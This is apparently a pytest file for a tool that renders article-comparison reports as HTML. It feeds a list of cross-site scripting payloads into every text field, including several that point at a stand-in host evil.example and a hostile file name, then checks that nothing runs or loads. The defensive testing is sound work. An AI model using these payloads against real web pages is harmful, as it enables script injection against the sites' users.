"""Hostile text in every field runs no script and changes nothing of the page."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from argmap.cli.compare import run
from argmap.cli.echo import Outcome
from argmap.graph import build_story
from argmap.model.article import fingerprint
from argmap.model.comparison import Comparison
from argmap.model.document import AnnotatedDocument
from argmap.report import ArticleMap, PublicFigure, StoryMap, build_view, render_page

from . import invented, invented_maps

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onclick='alert(1)' x='",
    "` onclick=alert(1) `",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);*{display:none}</style>",
    "<form action=//evil.example><input name=x autofocus></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p><mglyph><svg><mtext><style><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% for a in b %}{{ config }}",
    "<!--><script>alert(1)</script-->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u2066",
    "\x00<scr\x00ipt>alert(1)</script>",
]


def poisoned(payload: str) -> str:
    """The page of a story with the payload wherever a field takes free text."""
    document = poison_document(payload)
    other = invented.summary()
    story = Comparison.model_validate(poison_comparison(document, payload))
    maps = {
        "evil": ArticleMap(svg=None, reason=payload),
        "digest": ArticleMap(svg=invented_maps.map_svg(other)),
    }
    score = PublicFigure(dataset="babe", metric="word_f1", value=0.5, baseline=0.1, rule=payload)
    graph = build_story([document, other], story)
    view = build_view(
        [document, other],
        story,
        maps,
        story_map=StoryMap(graph=graph, svg=None, reason=payload),
        figures=[score],
    )
    return render_page(view)


def poison_document(payload: str) -> AnnotatedDocument:
    """An article whose text, names and settings are the payload."""
    text = f"{payload} said a word\n"
    whole = {"start": 0, "end": len(text) - 1, "text": text[:-1]}
    quote = {"start": 0, "end": len(payload), "text": payload}
    return AnnotatedDocument.model_validate(
        {
            "article": {
                "id": "evil", "title": payload, "outlet": payload, "author": payload,
                "published": payload, "url": payload, "language": payload,
                "sha256": fingerprint(text),
            },
            "text": text,
            "segments": (
                {
                    "id": "s1", **whole, "role": "claim", "claim_type": "fact",
                    "voice": "attributed", "attribution": "a1", "certainty": "possible",
                    "tone": {
                        "polarity": 0.5, "subjectivity": 0.5, "words": ((payload, 0.5, 0.5),)
                    },
                },
            ),
            "attributions": (
                {"id": "a1", "source": quote, "cue": quote, "content": (whole,), "speaker": "p1",
                 "quote": "direct"},
            ),
            "sources": (
                {"id": "p1", "name": payload, "kind": "named_person", "description": payload},
            ),
            "spans": tuple(
                {"id": f"x{n}", "layer": layer, "label": label, **quote, "voice": "attributed",
                 "attribution": "a1", "stance_to_frame": stance}
                for n, (layer, label, stance) in enumerate(
                    [("framing", "label", "uses"), ("loaded", "loaded_word", None),
                     ("hedge", "hedge", None)],
                    start=1,
                )
            ),
            "provenance": {
                "tool": payload, "settings": payload,
                "models": {"syntax": payload, "discourse": payload},
                "labels": {
                    "s1.certainty": {"status": "edited", "by": payload, "was": payload,
                                     "note": payload},
                    "s1": {"status": "confirmed", "by": payload, "note": payload},
                    "p1.name": {"status": "disputed", "was": {payload: payload}},
                    payload: {"status": "edited", "was": [payload]},
                },
            },
        }
    )  # fmt: skip


def poison_comparison(document: AnnotatedDocument, payload: str) -> dict[str, Any]:
    """A comparison whose names, phrases, details and reasons are the payload."""
    story = invented.comparison().model_dump(by_alias=True)
    card = story["articles"][0]["glance"] | {
        "loaded_words": (payload,),
        "tone": {"author": 0.5},
        "tone_words": {"author": ((payload, 0.5),)},
    }
    kinds = (
        ("stronger", "attribution", {"dropped": payload, "via": payload}),
        ("stronger", "certainty", {"from": payload, "to": payload, "cue": [payload]}),
        ("contradicts", "number", {"values": [payload, payload]}),
        ("contradicts", None, {"negation": payload, "only in": payload}),
        ("weaker", None, {payload: payload}),
    )
    plain = {"article": "evil", "start": 0, "end": len(payload), "text": payload}
    use = {
        "article": "evil", "span": "x1", "owner": payload, "via": payload, "voice": "attributed",
        "stance_to_frame": "uses",
    }  # fmt: skip
    return {
        "articles": (
            {"id": "evil", "outlet": payload, "annotation": payload, "glance": card},
            story["articles"][2],
        ),
        "groups": (
            {
                "id": "g1",
                "members": (
                    {"article": "evil", "segments": ("s1",)},
                    {"article": "digest", "segments": ("s1",)},
                ),
                "changes": tuple(
                    {"from": "evil", "to": "digest", "kind": k, "dimension": d, "detail": detail}
                    for k, d, detail in kinds
                ),
            },
            {"id": "g2", "members": ({"article": "evil", "segments": ("s1",)},)},
        ),
        "frames": (
            {"phrase": payload, "device": payload, "variants": (payload,), "uses": (use,),
             "unlabelled": (plain,)},
        ),
        "sources": (
            {"name": payload, "kind": "named_person",
             "articles": {"evil": {"source": "p1", "words": 3}}},
        ),
        "derivations": (
            {"from": "evil", "to": "digest", "confidence": 0.9, "reason": payload,
             "kept": ("g1",), "hardened": ("g1",), "dropped": ("g2",)},
        ),
        "questions": (
            {"article": "evil", "check": "one_sided", "message": payload, "segments": ("s1",)},
        ),
        "provenance": {"tool": payload, "similarity": payload},
    }  # fmt: skip


SKELETON = """() => [...document.querySelectorAll('*')]
  .filter((one) => !one.closest('.words-of-text, .tone-plot'))
  .map((one) => one.tagName).join(' ')"""


@pytest.mark.browser
@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_stays_text(payload: str, open_page: Callable[..., Any]) -> None:
    """It runs nothing, fetches nothing, and makes no element; the page's own script still runs."""
    opened = open_page(poisoned(payload))
    page = opened.page
    page.evaluate("document.querySelectorAll('details').forEach((box) => { box.open = true; })")
    page.mouse.move(300, 300)
    page.wait_for_timeout(50)
    assert opened.said == []
    assert opened.asked == [page.url]
    assert page.locator("#claim-filters").is_visible()
    plain = open_page(poisoned("plain words")).page
    assert page.evaluate(SKELETON) == plain.evaluate(SKELETON)
    for tag in ("iframe", "form", "base", "link", "img", "object", "embed", "math"):
        assert page.locator(tag).count() == 0
    assert page.locator("script").count() == 1


@pytest.mark.browser
@pytest.mark.dot
def test_a_whole_run_on_hostile_articles_runs_nothing(
    open_page: Callable[..., Any], tmp_path: Path
) -> None:
    """Every payload in texts, some in titles, outlets, authors, addresses and file names.

    Read by argmap, drawn by Graphviz, compared and opened in the browser.
    """
    shared = "The harbor board closed the northern pier on Monday after 14 accidents."
    told = [f"Mayor {payload} said that {payload} may follow." for payload in PAYLOADS]
    specs = []
    for number, payload in enumerate(PAYLOADS[:3]):
        head = "\n".join(f"{key}: {payload}" for key in ("title", "outlet", "author"))
        head += f"\nurl: https://example.org/{payload}"
        name = f"a{number}<img src=x onerror=alert(1)>'\"{number}.txt"
        path = tmp_path / name
        body = "\n\n".join([shared, *told[number::3]]).replace("\x00", "")
        path.write_text(f"---\n{head}\n---\n\n{body}\n", encoding="utf-8")
        specs.append(str(path))
    output = tmp_path / "o"
    run(specs, tmp_path / "a", output, Outcome(quiet=True, as_json=False))
    opened = open_page((output / "compare.html").read_text(encoding="utf-8"))
    page = opened.page
    page.evaluate("document.querySelectorAll('details').forEach((box) => { box.open = true; })")
    page.mouse.move(300, 300)
    page.wait_for_timeout(100)
    assert opened.said == []
    assert opened.asked == [page.url]
    assert page.locator(".story-map svg a").count() > 0
    assert page.locator("script").count() == 1
    for tag in ("iframe", "form", "base", "link", "img", "object", "embed", "math"):
        assert page.locator(tag).count() == 0
    assert page.evaluate(
        "[...document.querySelectorAll('*')].every((one) =>"
        " [...one.attributes].every((a) => !a.name.startsWith('on')))"
    )


@pytest.mark.browser
def test_the_policy_stops_a_script_that_got_in(open_page: Callable[..., Any]) -> None:
    """Even markup in the page runs nothing: the second lock holds without the first."""
    html = poisoned("plain words").replace(
        "At a glance</h2>",
        "</h2><script>alert(1)</script><img src=x onerror=alert(1)><b onclick=alert(1)>b</b>",
    )
    opened = open_page(html)
    opened.page.locator("b[onclick]").first.click()
    opened.page.wait_for_timeout(100)
    assert "1" not in opened.said
    assert any("Content Security Policy" in text for text in opened.said)
